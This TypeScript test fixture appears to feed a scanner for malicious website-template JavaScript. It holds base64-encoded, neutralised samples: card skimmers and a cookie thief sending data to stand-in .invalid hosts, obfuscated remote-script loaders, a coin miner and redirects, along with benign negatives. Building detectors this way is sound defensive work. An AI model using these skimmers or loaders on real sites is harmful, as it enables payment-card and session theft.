import type { Sample } from '../types.ts'
import { hiddenTagSamples } from './samples-hidden-tags.ts'

/** Hosts end in .invalid, which no name server knows; each script ends before it begins. */
export const samples: readonly Sample[] = [
  {
    name: 'cards of a shop sent away, every word in hexadecimal',
    path: 'squelettes/js/pay.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgXzB4MWEyYj1bIlx4NmZceDZlXHg2NVx4NzBceDYxXHg2N1x4NjVceDdjXHg2M1x4NjhceDY1XHg2M1x4NmJceDZmXHg3NVx4NzRceDdjXHg2Zlx4NmVceDY1XHg3M1x4NzRceDY1XHg3MCIsIlx4NzFceDc1XHg2NVx4NzJceDc5XHg1M1x4NjVceDZjXHg2NVx4NjNceDc0XHg2Zlx4NzJceDQxXHg2Y1x4NmMiLCJceDY5XHg2ZVx4NzBceDc1XHg3NFx4MmNceDIwXHg3M1x4NjVceDZjXHg2NVx4NjNceDc0XHgyY1x4MjBceDc0XHg2NVx4NzhceDc0XHg2MVx4NzJceDY1XHg2MSIsIlx4NjhceDc0XHg3NFx4NzBceDczXHgzYVx4MmZceDJmXHg2M1x4NmZceDZjXHg2Y1x4NjVceDYzXHg3NFx4MmVceDY5XHg2ZVx4NzZceDYxXHg2Y1x4NjlceDY0XHgyZlx4NjdceDNmXHg2M1x4NjNceDVmXHg2ZVx4NzVceDZkXHg2Mlx4NjVceDcyXHgzZCIsIlx4NjNceDYzXHg1Zlx4NjNceDY5XHg2NCJdO2lmKChuZXcgUmVnRXhwKF8weDFhMmJbMF0pKVsidGVzdCJdKHdpbmRvd1sibG9jYXRpb24iXSkpe2RvY3VtZW50W18weDFhMmJbMV1dKF8weDFhMmJbMl0pO3ZhciBpPW5ldyBJbWFnZSgpO2lbInNyYyJdPV8weDFhMmJbM10rXzB4MWEyYls0XX0=',
    expect: ['script-skimmer'],
  },
  {
    name: 'all fields of the page where people pay, sent to a stranger',
    path: 'squelettes/js/x.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtpZigveC8udGVzdCgnJykpe307aWYoKG5ldyBSZWdFeHAoJ29uZXBhZ2V8Y2hlY2tvdXQnKSkudGVzdCh3aW5kb3cubG9jYXRpb24pKXt2YXIgYT1kb2N1bWVudC5xdWVyeVNlbGVjdG9yQWxsKCdpbnB1dCwgc2VsZWN0LCB0ZXh0YXJlYScpO2pRdWVyeS5hamF4KHt1cmw6J2h0dHBzOi8vY29sbGVjdC5pbnZhbGlkL2dhdGUucGhwJyx0eXBlOidQT1NUJyxkYXRhOmF9KX0=',
    expect: ['script-skimmer'],
  },
  {
    name: 'a stranger brought in by hidden letters, and coins made besides',
    path: 'squelettes/js/two.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgcz1kb2N1bWVudC5jcmVhdGVFbGVtZW50KCdzY3JpcHQnKTtzLnNyYz0nXHg2OFx4NzRceDc0XHg3MFx4NzNceDNhXHgyZlx4MmZceDYzXHg2NFx4NmVceDJlXHg2ZFx4NjlceDZlXHg2NVx4NzJceDJkXHg2Nlx4NjlceDZjXHg2NVx4NzNceDJlXHg2OVx4NmVceDc2XHg2MVx4NmNceDY5XHg2NFx4MmZceDc4XHgyZVx4NmFceDczJztkb2N1bWVudC5oZWFkLmFwcGVuZENoaWxkKHMpO3ZhciBtPW5ldyBDb2luSGl2ZS5Vc2VyKCdub2JvZHknKTttLnN0YXJ0KCk7',
    expect: ['script-loader', 'script-miner'],
  },
  {
    name: "a card's form put into the page by hidden letters",
    path: 'squelettes/js/form.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgZj0iXHgzY1x4NjZceDZmXHg3Mlx4NmRceDNlXHgzY1x4NjlceDZlXHg3MFx4NzVceDc0XHgyMFx4NmVceDYxXHg2ZFx4NjVceDNkXHgyMlx4NjNceDYzXHg1Zlx4NmVceDc1XHg2ZFx4NjJceDY1XHg3Mlx4MjJceDNlXHgzY1x4NjlceDZlXHg3MFx4NzVceDc0XHgyMFx4NmVceDYxXHg2ZFx4NjVceDNkXHgyMlx4NjNceDYzXHg1Zlx4NjNceDY5XHg2NFx4MjJceDNlXHgzY1x4NjlceDZlXHg3MFx4NzVceDc0XHgyMFx4NmVceDYxXHg2ZFx4NjVceDNkXHgyMlx4NjNceDYzXHg1Zlx4NjVceDc4XHg3MFx4NWZceDZkXHg2Zlx4NmVceDc0XHg2OFx4MjJceDNlXHgzY1x4MmZceDY2XHg2Zlx4NzJceDZkXHgzZVx4M2NceDcwXHgzZVx4NGVceDc1XHg2ZFx4NjVceDcyXHg2Zlx4MjBceDY0XHg2NVx4MjBceDYzXHg2MVx4NzJceDc0XHg2NVx4MjBceDY1XHg3NFx4MjBceDYzXHg2Zlx4NjRceDY1XHgzY1x4MmZceDcwXHgzZSI7ZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoInBheSIpLmlubmVySFRNTD1mO2pRdWVyeS5wb3N0KCIveCIsalF1ZXJ5KCJmb3JtIGlucHV0Iikuc2VyaWFsaXplKCkp',
    expect: ['script-skimmer'],
  },
  {
    name: 'a script fetched from an address in numbers',
    path: 'squelettes/js/l.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgcz1kb2N1bWVudC5jcmVhdGVFbGVtZW50KCJzY3JpcHQiKTtzLnNyYz1TdHJpbmcuZnJvbUNoYXJDb2RlKDEwNCwxMTYsMTE2LDExMiwxMTUsNTgsNDcsNDcsOTksMTAwLDExMCw0NiwxMDUsMTEwLDExOCw5NywxMDgsMTA1LDEwMCw0NywxMDgsMTA1LDk4LDQ2LDEwNiwxMTUpO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyk=',
    expect: ['script-loader'],
  },
  {
    name: 'a script fetched from an address in base64, at the end of a page',
    path: 'squelettes/pied.html',
    zone: 'template',
    base64:
      'PHA+UGllZDwvcD48c2NyaXB0PnRocm93IDA7dmFyIHM9ZG9jdW1lbnRbImNyZWF0ZUVsZW1lbnQiXSgic2NyaXB0Iik7cy5zcmM9d2luZG93LmF0b2IoImFIUjBjSE02THk5alpHNHVhVzUyWVd4cFpDOXNhV0l1YW5NPSIpO2RvY3VtZW50LmJvZHkuYXBwZW5kQ2hpbGQocyk8L3NjcmlwdD4=',
    expect: ['script-loader'],
  },
  {
    name: 'a script fetched from an address that is written backwards',
    path: 'squelettes/js/b.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtkb2N1bWVudC53cml0ZSgiPHNjciIrImlwdCBzcmM9JyIrInNqLmJpbC9kaWxhdm5pLm5kYy8vOnNwdHRoIi5zcGxpdCgiIikucmV2ZXJzZSgpLmpvaW4oIiIpKyInPjwvc2NyIisiaXB0PiIp',
    expect: ['script-loader'],
  },
  {
    name: 'a script fetched from a stranger on the page where people pay alone',
    path: 'squelettes/js/c.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtpZihsb2NhdGlvbi5ocmVmLmluZGV4T2YoIm9uZXN0ZXBjaGVja291dCIpPi0xKXt2YXIgcz1kb2N1bWVudC5jcmVhdGVFbGVtZW50KCJzY3JpcHQiKTtzLnNyYz0iLy9jZG4uaW52YWxpZC9xLmpzIjtkb2N1bWVudC5oZWFkLmFwcGVuZENoaWxkKHMpfQ==',
    expect: ['script-loader'],
  },
  {
    name: "what is packed in a stranger's digits, by members in pieces",
    path: 'squelettes/js/p.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgYj0iM2cydDNjMHczNjJrMjUxcjE2MTAzNzJqMW0zaTFmMXgxOTJmMmIxYTMwMjcxMDJuMTAzNjNnMnQzYzB3MzYyazI1MXIxNjEwMzcyajFtM2kxZjF4MTkyZjJiMWEzMDI3MTAybjEwMzYzZzJ0M2MwdzM2MmsyNTFyMTYxMDM3MmoxbTNpMWYxeDE5MmYyYjFhMzAyNzEwMm4xMDM2M2cydDNjMHczNjJrMjUxcjE2MTAzNzJqMW0zaTFmMXgxOTJmMmIxYTMwMjcxMDJuMTAzNjNnMnQzYzB3MzYyazI1MXIxNjEwMzcyajFtM2kxZjF4MTkyZjJiMWEzMDI3MTAybjEwMzYzZzJ0M2MwdzM2MmsyNTFyMTYxMDM3MmoxbTNpMWYxeDE5MmYyYjFhMzAyNzEwMm4xMDM2Ijt2YXIgbz0iIjtmb3IodmFyIGk9MDtpPGJbImwiKyJlbmd0IisiaCJdO2krPTIpe28rPVN0cmluZ1siZiIrKDYxPjQxPyJceDcyIjoibSIpKyJvbUNoYXJDb2RlIl0ocGFyc2VJbnQoYlsic3ViIisic3RyIl0oaSwyKSwzNCkpfTsoZnVuY3Rpb24oKXt9KVsiY29uc3QiKyJydWN0b3IiXShvKQ==',
    expect: ['script-packed'],
  },
  {
    name: "what is run through this['eval']",
    path: 'squelettes/js/e.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt0aGlzWydldmFsJ10oay5yZXBsYWNlKC8uL2csZnVuY3Rpb24oYyl7cmV0dXJuIFN0cmluZy5mcm9tQ2hhckNvZGUoYy5jaGFyQ29kZUF0KDApXjcpfSkp',
    expect: ['script-packed'],
  },
  {
    name: "numbers in base 30, by somebody's own decoder",
    path: 'squelettes/js/n.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtmdW5jdGlvbiBkKHQpe3ZhciBvPSIiLHA9MDtmb3IodmFyIGk9MDtpPHQubGVuZ3RoO2krPTIpe3A9cGFyc2VJbnQodFtpXSt0W2krMV0sMzApLXA7bys9U3RyaW5nLmZyb21DaGFyQ29kZShwKX1yZXR1cm4gb31zZXRUaW1lb3V0KCIxIiwxKTtGdW5jdGlvbihkKCIyMTVpOGw4czdxN204cThsOGw4cTlkOWM3bTgyOG03bThiN3E3bThoOGw1ZzNuNm04cTk3OWc5ZTIxNWk4bDhzN3E3bThxOGw4bDhxOWQ5YzdtODI4bTdtOGI3cTdtOGg4bDVnM242bThxOTc5ZzllMjE1aThsOHM3cTdtOHE4bDhsOHE5ZDljN204MjhtN204YjdxN204aDhsNWczbjZtOHE5NzlnOWUyMTVpOGw4czdxN204cThsOGw4cTlkOWM3bTgyOG03bThiN3E3bThoOGw1ZzNuNm04cTk3OWc5ZTIxNWk4bDhzN3E3bThxOGw4bDhxOWQ5YzdtODI4bTdtOGI3cTdtOGg4bDVnM242bThxOTc5ZzllIikpKCk=',
    expect: ['script-packed'],
  },
  {
    name: 'a script that looks whether somebody watches it',
    path: 'squelettes/js/w.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDt2YXIgdz13aW5kb3cub3V0ZXJXaWR0aC13aW5kb3cuaW5uZXJXaWR0aD4xNjA7aWYoIXcpe3ZhciBxPSJPYU53UGY4MEl0dkd4eUxkSTJCU0YvWFNNQXVjbFRKQU9zTlM3UUNDMlNDSUs2eXJham9PUWFUK1plSXVrNXBwbzBoYnlNdTFpeHJGS01BRGNrYlB3a0JvUThXaE9hTndQZjgwSXR2R3h5TGRJMkJTRi9YU01BdWNsVEpBT3NOUzdRQ0MyU0NJSzZ5cmFqb09RYVQrWmVJdWs1cHBvMGhieU11MWl4ckZLTUFEY2tiUHdrQm9ROFdoT2FOd1BmODBJdHZHeHlMZEkyQlNGL1hTTUF1Y2xUSkFPc05TN1FDQzJTQ0lLNnlyYWpvT1FhVCtaZUl1azVwcG8waGJ5TXUxaXhyRktNQURja2JQd2tCb1E4V2giO2Zvcih2YXIgaT0wO2k8cS5sZW5ndGg7aSsrKXEuY2hhckNvZGVBdChpKX0=',
    expect: ['script-packed'],
  },
  {
    name: 'cookies sent with the address of a picture',
    path: 'squelettes/js/k.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDsobmV3IEltYWdlKCkpLnNyYz0iaHR0cDovL2NvbGxlY3QuaW52YWxpZC9pLnBocD9kbz1hcGkmbG9jYXRpb249Iitlc2NhcGUoZG9jdW1lbnQubG9jYXRpb24uaHJlZikrIiZjb29raWU9Iitlc2NhcGUoZG9jdW1lbnQuY29va2llKQ==',
    expect: ['script-thief'],
  },
  {
    name: 'a miner',
    path: 'squelettes/js/m.js',
    zone: 'template',
    base64: 'dGhyb3cgMDt2YXIgbWluZXI9bmV3IENvaW5IaXZlLkFub255bW91cygneCcpO21pbmVyLnN0YXJ0KCk=',
    expect: ['script-miner'],
  },
  {
    name: 'visitors from a search sent elsewhere',
    path: 'squelettes/js/r.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtpZihkb2N1bWVudC5yZWZlcnJlci5pbmRleE9mKCJnb29nbGUuIik+MCl7d2luZG93LmxvY2F0aW9uLmhyZWY9Imh0dHBzOi8vcGlsbHMuaW52YWxpZC8ifQ==',
    expect: ['script-redirect'],
  },
  {
    name: 'visitors with a small screen asked whether they want to go elsewhere',
    path: 'squelettes/js/small.js',
    zone: 'template',
    base64:
      'aWYgKG5hdmlnYXRvci51c2VyQWdlbnQubWF0Y2goL2lQaG9uZS9pKSkgeyBpZiAoY29uZmlybSgiR28gdG8gdGhlIHNtYWxsIHNpdGU/IikpIHsgd2luZG93LmxvY2F0aW9uID0gImh0dHA6Ly9zbWFsbC5leGFtcGxlLm5ldC8iOyB9IH0=',
    expect: [],
  },
  {
    name: 'people who want to pay sent to a stranger',
    path: 'squelettes/js/v.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtqUXVlcnkoIiNvbmVzdGVwY2hlY2tvdXQtcGxhY2Utb3JkZXIiKS5hdHRyKCJvbmNsaWNrIiwicGF5KCkiKTtmdW5jdGlvbiBwYXkoKXtqUXVlcnkobG9jYXRpb24pLmF0dHIoImhyZWYiLCIvL3BheS5pbnZhbGlkLz9wPSIrYnRvYSgieCIpKX0=',
    expect: ['script-redirect'],
  },
  {
    name: 'a skimmer packed as libraries are',
    path: 'squelettes/js/ed.js',
    zone: 'template',
    base64:
      'dGhyb3cgMDtldmFsKGZ1bmN0aW9uKHAsYSxjLGssZSxkKXtyZXR1cm4gcH0oJzUgND0zLjIoIjEiKTs2IDcoKS44PSIwOi8vOS5hLz9iPSIrNDtjIGQ9ImUiJywxNiwxNSwnaHR0cHN8aW5wdXQsIHNlbGVjdHxxdWVyeVNlbGVjdG9yQWxsfGRvY3VtZW50fHh8dmFyfG5ld3xJbWFnZXxzcmN8Y29sbGVjdHxpbnZhbGlkfGNjX251bWJlcnx2YXJ8eXxjdnYnLnNwbGl0KCd8JyksMCx7fSkp',
    expect: ['script-skimmer'],
  },
  {
    name: 'audience figures',
    path: 'squelettes/js/matomo.js',
    zone: 'template',
    base64:
      'dmFyIF9wYXE9d2luZG93Ll9wYXF8fFtdO19wYXEucHVzaChbInRyYWNrUGFnZVZpZXciXSk7KGZ1bmN0aW9uKCl7dmFyIHU9Ii8vc3RhdHMuZXhhbXBsZS5vcmcvIjt2YXIgZD1kb2N1bWVudCxnPWQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iikscz1kLmdldEVsZW1lbnRzQnlUYWdOYW1lKCJzY3JpcHQiKVswXTtnLnNyYz11KyJtYXRvbW8uanMiO3MucGFyZW50Tm9kZS5pbnNlcnRCZWZvcmUoZyxzKX0pKCk7',
    expect: [],
  },
  {
    name: 'a player of a known host',
    path: 'squelettes/js/v.js',
    zone: 'template',
    base64:
      'dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7cy5zcmM9Imh0dHBzOi8vd3d3LnlvdXR1YmUuY29tL2lmcmFtZV9hcGkiO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyk=',
    expect: [],
  },
  {
    name: 'a form that is sent by itself',
    path: 'squelettes/js/f.js',
    zone: 'template',
    base64:
      'alF1ZXJ5KCJmb3JtLmFqYXgiKS5vbigic3VibWl0IixmdW5jdGlvbigpe2pRdWVyeS5wb3N0KHRoaXMuYWN0aW9uLGpRdWVyeSh0aGlzKS5zZXJpYWxpemUoKSk7cmV0dXJuIGZhbHNlfSk=',
    expect: [],
  },
  {
    name: 'a payment field that is checked here',
    path: 'squelettes/js/luhn.js',
    zone: 'template',
    base64:
      'ZnVuY3Rpb24gb2soY2NfbnVtYmVyKXt2YXIgcz0wO2Zvcih2YXIgaT0wO2k8Y2NfbnVtYmVyLmxlbmd0aDtpKyspcys9K2NjX251bWJlci5jaGFyQXQoaSk7cmV0dXJuIHMlMTA9PTB9',
    expect: [],
  },
  {
    name: 'letters of other alphabets in escapes',
    path: 'squelettes/js/lang.js',
    zone: 'template',
    base64: 'dmFyIG1vaXM9WyJqYW52aWVyIiwiZlx1MDBlOXZyaWVyIiwibWFycyIsImFvXHUwMGZidCIsImRcdTAwZTljZW1icmUiXTt2YXIgeD0iXHgzYy9zY3JpcHQ+Ijs=',
    expect: [],
  },
  {
    name: 'a picture in base64',
    path: 'squelettes/js/img.js',
    zone: 'template',
    base64:
      'dmFyIGk9bmV3IEltYWdlKCk7aS5zcmM9ImRhdGE6aW1hZ2UvcG5nO2Jhc2U2NCxpVkJPUncwS0dnb0FBQUFOU1VoRVVnQUFBQUVBQUFBQmlWQk9SdzBLR2dvQUFBQU5TVWhFVWdBQUFBRUFBQUFCaVZCT1J3MEtHZ29BQUFBTlNVaEVVZ0FBQUFFQUFBQUJpVkJPUncwS0dnb0FBQUFOU1VoRVVnQUFBQUVBQUFBQmlWQk9SdzBLR2dvQUFBQU5TVWhFVWdBQUFBRUFBQUFCaVZCT1J3MEtHZ29BQUFBTlNVaEVVZ0FBQUFFQUFBQUJpVkJPUncwS0dnb0FBQUFOU1VoRVVnQUFBQUVBQUFBQmlWQk9SdzBLR2dvQUFBQU5TVWhFVWdBQUFBRUFBQUFCaVZCT1J3MEtHZ29BQUFBTlNVaEVVZ0FBQUFFQUFBQUJpVkJPUncwS0dnb0FBQUFOU1VoRVVnQUFBQUVBQUFBQiI=',
    expect: [],
  },
  {
    name: 'a library packed by its maker',
    path: 'squelettes/js/lib.js',
    zone: 'template',
    base64:
      'ZXZhbChmdW5jdGlvbihwLGEsYyxrLGUsZCl7cmV0dXJuIHB9KCczIDAoMSl7MiAxKzF9Jyw0LDQsJ3R3aWNlfHh8cmV0dXJufGZ1bmN0aW9uJy5zcGxpdCgnfCcpLDAse30pKQ==',
    expect: [],
  },
  {
    name: "a mobile site of one's own",
    path: 'squelettes/js/mob.js',
    zone: 'template',
    base64: 'aWYoL21vYmlsZS9pLnRlc3QobmF2aWdhdG9yLnVzZXJBZ2VudCkpe3dpbmRvdy5sb2NhdGlvbj0iaHR0cHM6Ly9tLmV4YW1wbGUub3JnLyJ9',
    expect: [],
  },
  {
    name: 'data in a page',
    path: 'squelettes/json.html',
    zone: 'template',
    base64:
      'PHNjcmlwdCB0eXBlPSJhcHBsaWNhdGlvbi9sZCtqc29uIj57IkBjb250ZXh0IjoiaHR0cHM6Ly9zY2hlbWEub3JnIiwidXJsIjoiaHR0cHM6Ly9hdXRyZS5pbnZhbGlkLyJ9PC9zY3JpcHQ+',
    expect: [],
  },
  {
    name: "a cookie of one's own",
    path: 'squelettes/js/ck.js',
    zone: 'template',
    base64: 'ZG9jdW1lbnQuY29va2llPSJsdT0xO3BhdGg9LyI7aWYoZG9jdW1lbnQuY29va2llLmluZGV4T2YoImx1Iik8MClsb2NhdGlvbi5yZWxvYWQoKQ==',
    expect: [],
  },
  {
    name: 'a script behind the end of a page',
    path: 'squelettes/sommaire.html',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PCFET0NUWVBFIGh0bWw+PGh0bWw+PGJvZHk+PHA+eDwvcD48L2JvZHk+PC9odG1sPgo8c2NyaXB0IHNyYz0iLy9zdGF0cy5pbnZhbGlkL2EuanMiPjwvc2NyaXB0Pg==',
    expect: ['script-tag'],
  },
  {
    name: 'a script from an address of numbers',
    path: 'squelettes/page.html',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PCFET0NUWVBFIGh0bWw+PGh0bWw+PGhlYWQ+PHNjcmlwdCBzcmM9Imh0dHA6Ly8yMDMuMC4xMTMuNy9hLmpzIj48L3NjcmlwdD48L2hlYWQ+PC9odG1sPg==',
    expect: ['script-tag'],
  },
  {
    name: 'a script in its own address',
    path: 'squelettes/autre.html',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PCFET0NUWVBFIGh0bWw+PGh0bWw+PGhlYWQ+PHNjcmlwdCBzcmM9ImRhdGE6dGV4dC9qYXZhc2NyaXB0O2Jhc2U2NCxMeTg9Ij48L3NjcmlwdD48L2hlYWQ+PC9odG1sPg==',
    expect: ['script-tag'],
  },
  {
    name: 'scripts of a page that somebody built',
    path: 'squelettes/bon.html',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PCFET0NUWVBFIGh0bWw+PGh0bWw+PGhlYWQ+PHNjcmlwdCBzcmM9Ii9qcy9hLmpzIj48L3NjcmlwdD48c2NyaXB0IHNyYz0iaHR0cHM6Ly9jZG4ucGFydG5lci5leGFtcGxlL2IuanMiPjwvc2NyaXB0PjwvaGVhZD48Ym9keT48L2JvZHk+PC9odG1sPg==',
    expect: [],
  },
  ...hiddenTagSamples,
]
